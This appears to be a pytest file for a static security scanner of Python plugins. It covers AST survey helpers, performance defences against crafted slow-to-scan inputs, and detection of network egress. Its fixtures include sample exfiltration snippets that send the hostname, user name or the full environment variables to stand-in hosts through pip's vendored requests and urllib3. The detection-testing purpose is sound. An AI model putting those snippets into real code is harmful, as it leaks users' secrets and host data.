"""The survey's helpers: the nodes below a focus statement (issue 16)."""

from __future__ import annotations

import ast
import sysconfig
import unicodedata
import urllib.parse
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import SplitResult

import pytest

from caplet._marks import MAX_MARKS
from caplet._scan import _syntax
from caplet._scan._focus import focus, focus_bindings
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_tree
from caplet._scan._syntax import Survey, TooComplex, survey, url_host
from tests._scan.prefilterkit import kept_by_the_prefilter, tree_danger

SOURCE = Path(sysconfig.get_paths()["stdlib"]) / "tarfile.py"
#: What ast.walk yields that the survey never lists (and no rule visits).
_TOKENS = (ast.expr_context, ast.operator, ast.unaryop, ast.boolop, ast.cmpop)


def test_the_marked_statements_are_ast_walks_nodes_the_survey_lists() -> None:
    tree = ast.parse(SOURCE.read_text(encoding="utf-8"))
    classes = [s for s in tree.body if isinstance(s, ast.ClassDef)]
    # top-level statements, and class members, decorators and bases a level below
    roots = [
        *[s for s in tree.body if isinstance(s, ast.ClassDef | ast.FunctionDef)][:5],
        *classes[-1].body[:3],
        *classes[-1].bases,
    ]
    assert len(roots) > 6
    walked = {id(n) for r in roots for n in ast.walk(r) if not isinstance(n, _TOKENS)}
    surveyed = survey(tree, 100, 1_000_000, marked=roots)
    assert not isinstance(surveyed, TooComplex)
    assert surveyed.visited == walked
    assert walked <= {id(n) for n in surveyed.nodes}
    # the same nodes, bindings and scopes as a survey that marks nothing
    plain = survey(tree, 100, 1_000_000)
    assert not isinstance(plain, TooComplex)
    assert plain.visited is None
    assert plain.nodes == surveyed.nodes
    assert plain.scopes == surveyed.scopes
    assert plain.bindings == surveyed.bindings
    nothing = survey(tree, 100, 1_000_000, marked=[])
    assert not isinstance(nothing, TooComplex)
    assert nothing.visited == set()


def test_a_survey_too_complex_marks_nothing() -> None:
    tree = ast.parse("x = " + "-" * 300 + "1\n")
    assert isinstance(survey(tree, 100, 1_000_000, marked=list(tree.body)), TooComplex)


def test_focus_bindings_are_the_module_level_and_class_bindings() -> None:
    tree = ast.parse(
        "import os\nclass Config:\n    name = 'x'\n    def run(self):\n        y = 1\n"
        "def f():\n    z = 2\nfor k in os.environ:\n    pass\n"
    )
    bindings = focus_bindings(tree)
    assert set(bindings.imports) == {"os"}
    assert set(bindings.assigned) == {"name"}
    assert bindings.defined == {"Config", "run", "f"}
    assert set(bindings.iterated) == {"k"}
    config = tree.body[1]
    assert isinstance(config, ast.ClassDef)
    assert focus(tree, frozenset({5})) == [tree.body[0], config.body[1]]


# -- blind17: a vendored copy of a library is that library ------------------------------------

#: tune b17-re-pip-vendor-requests: a beacon sent through pip's copy of requests.
VENDORED_EGRESS = [
    "import getpass, socket\nfrom pip._vendor import requests as _rq\n"
    "_rq.get('https://oob.example/b',\n"
    "        params={'h': socket.gethostname(), 'u': getpass.getuser()})\n",
    "import os\nfrom pip._vendor.urllib3 import PoolManager\n"
    "PoolManager().request('POST', 'https://x.example/e', body=str(dict(os.environ)))\n",
    "import os\nimport pip._vendor.requests as r\n"
    "r.post('https://x.example/e', json=dict(os.environ))\n",
]


@pytest.mark.parametrize("source", VENDORED_EGRESS)
def test_a_library_imported_through_its_vendored_copy_is_that_library(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    kept_by_the_prefilter(tmp_path, monkeypatch, source)


def test_vendored_copies_used_as_the_library_is_used_stay_clean(tmp_path: Path) -> None:
    # pip's own code and a tool fetching the index with pip's requests: no host data sent
    (tmp_path / "mod.py").write_text(
        "from pip._vendor import requests\nfrom pip._vendor.packaging.version import Version\n"
        "def latest(name):\n"
        "    data = requests.get(f'https://pypi.org/pypi/{name}/json', timeout=5).json()\n"
        "    return max(Version(v) for v in data['releases'])\n"
    )
    assert not tree_danger(tmp_path)


# -- functions by name (attack25) -----------------------------------------------------------

Function = ast.FunctionDef | ast.AsyncFunctionDef


class _Counted(list[Function]):
    """A file's ``bindings.functions`` that counts the items every loop over it takes."""

    taken = 0

    def __iter__(self) -> Iterator[Function]:
        for item in super().__iter__():
            self.taken += 1
            yield item


def _counting(monkeypatch: pytest.MonkeyPatch) -> list[_Counted]:
    """Every file pass's ``bindings.functions`` from now on, counted."""
    counted: list[_Counted] = []
    real = _syntax.survey

    def counting(*args: Any, **kwargs: Any) -> Survey | TooComplex:
        surveyed = real(*args, **kwargs)
        if not isinstance(surveyed, TooComplex):
            surveyed.bindings.functions = _Counted(surveyed.bindings.functions)
            counted.append(surveyed.bindings.functions)
        return surveyed

    # the file pass imports it when it runs (a lazy import), so this is what it calls
    monkeypatch.setattr(_syntax, "survey", counting)
    return counted


def _chain(count: int) -> str:
    """``count`` functions, each calling the one before, the last one's result run."""
    calls = "".join(f"def f{i}(x):\n    return f{i - 1}(x)\n" for i in range(1, count))
    return f"import os\ndef f0(x):\n    return x\n{calls}os.system(f{count - 1}('ls'))\n"


def test_a_function_found_by_name_is_one_lookup_not_a_walk_of_every_function(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Attack (attack25): each call site's rules found the callee by walking every function
    # of the file ([f for f in functions if f.name == name], nine places), so a file of
    # n functions calling one another cost n * n: 16,000 of them (550 KB) took 23 s to
    # scan, a 2 MiB file minutes. Now a name is one lookup in an index the survey builds
    # (Bindings.named): the loops that remain walk the functions a few times in all.
    # 400 functions took 180,000 items on 0bd193a.
    count = 400
    (tmp_path / "plugin.py").write_text(_chain(count))
    counted = _counting(monkeypatch)
    report = scan_tree(tmp_path, mode=ScanMode.PLUGIN)
    assert "CPL-PROC-001" in {f.rule_id for f in report.findings}
    assert counted
    assert sum(c.taken for c in counted) <= 10 * count


def test_the_index_by_name_holds_every_function_in_the_order_defined() -> None:
    # the near miss: two functions of one name (a redefinition, a method and a function)
    # are both found, in the order the file defines them, as the walk found them
    tree = ast.parse(
        "def run(): pass\nclass C:\n    def run(self): pass\n    async def go(self): pass\n"
        "def run(x): return x\n"
    )
    surveyed = survey(tree, 100, 10_000)
    assert not isinstance(surveyed, TooComplex)
    b = surveyed.bindings
    for name in ("run", "go", "missing"):
        assert b.named(name) == [f for f in b.functions if f.name == name]
    assert [len(f.args.args) for f in b.named("run")] == [0, 1, 1]
    assert b.functions_by_id == {id(f): f for f in b.functions}


# -- a URL literal's host (attack25) ---------------------------------------------------------

#: Two combining classes (230, 220) alternating in falling order: NFKC's worst case.
_PAIR = "\u0301\u0316"


def _longest_sorted_run(text: str) -> int:
    """The longest run of characters of a combining class above 0 in ``text``'s NFKD: the
    runs NFKC's sort works on."""
    longest = current = 0
    for char in unicodedata.normalize("NFKD", text):
        current = current + 1 if unicodedata.combining(char) else 0
        longest = max(longest, current)
    return longest


def test_a_url_literal_with_a_long_run_of_marks_is_split_stream_safe(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Attack (attack25): escapes put a run of marks in a literal of an ASCII source, which
    # the parse bound (caplet._marks) lets through, and urlsplit normalised the host (NFKC)
    # by a sort quadratic in the run: a 960 KB plugin took 29 s to scan, 2 MiB minutes. Now
    # urlsplit is given the text stream-safe (a joiner after every 30 marks); the URL is
    # still a host no grant covers.
    seen: list[str] = []
    real = urllib.parse.urlsplit

    def recording(url: str, scheme: str = "", allow_fragments: bool = True) -> SplitResult:
        seen.append(url)
        return real(url, scheme, allow_fragments)

    monkeypatch.setattr(urllib.parse, "urlsplit", recording)
    (tmp_path / "plugin.py").write_text(
        'import urllib.request\nurllib.request.urlopen("https://a'
        + "\\u0301\\u0316" * 1_000
        + '.example.com/x")\n'
    )
    report = scan_tree(tmp_path, mode=ScanMode.PLUGIN)
    [url] = [f for f in report.findings if f.rule_id == "CPL-NET-003"]
    assert url.line == 2
    assert "names a host no net.http capability declares" in url.message
    assert seen
    # the runs NFKC's sort works on: 2,000 on 0bd193a
    assert max(map(_longest_sorted_run, seen)) == MAX_MARKS


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://API.example.com:8443/v1", "api.example.com"),
        ("http://cafe\u0301.example./", "cafe\u0301.example"),
        ("https://a" + _PAIR * 15 + ".example/", "a" + _PAIR * 15 + ".example"),
        ("https://{host}/v1", None),
    ],
)
def test_a_url_literal_within_the_bound_has_its_host_as_ever(url: str, host: str | None) -> None:
    # the near miss: 30 marks and fewer are split as they are written
    assert url_host(url) == host
